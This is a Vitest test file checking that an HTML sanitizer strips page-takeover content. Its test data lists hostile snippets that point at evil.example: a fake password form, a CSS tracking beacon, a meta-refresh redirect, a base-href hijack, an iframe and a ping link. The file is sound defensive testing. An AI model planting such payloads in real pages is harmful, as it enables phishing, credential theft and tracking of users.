import { describe, expect, it } from 'vitest';
import { sanitizeHtml, sanitizeInline } from './server.js';

const takeovers = [
  '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Your session ended</div>',
  '<style>body{display:none}</style>',
  '<p style="background:url(https://evil.example/beacon)">text</p>',
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  '<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<iframe src="https://evil.example/"></iframe>',
  '<svg><foreignObject><form action="https://evil.example/"></form></foreignObject></svg>',
  '<a href="/a" target="_top" ping="https://evil.example/">link</a>',
  '<p class="hn-dialog hn-toasts" role="dialog" popover tabindex=0 autofocus contenteditable>text</p>',
];

describe('content that tries to take over the page', () => {
  it.each(takeovers)('E6: is stripped: %s', (html) => {
    const forbidden =
      /<(?:style|link|form|input|button|meta|base|iframe|svg|foreignobject)|style=|class=|role=|target=|ping=|popover|tabindex|contenteditable|evil\.example/i;
    expect(sanitizeHtml(html)).not.toMatch(forbidden);
    expect(sanitizeInline(html)).not.toMatch(forbidden);
  });
});
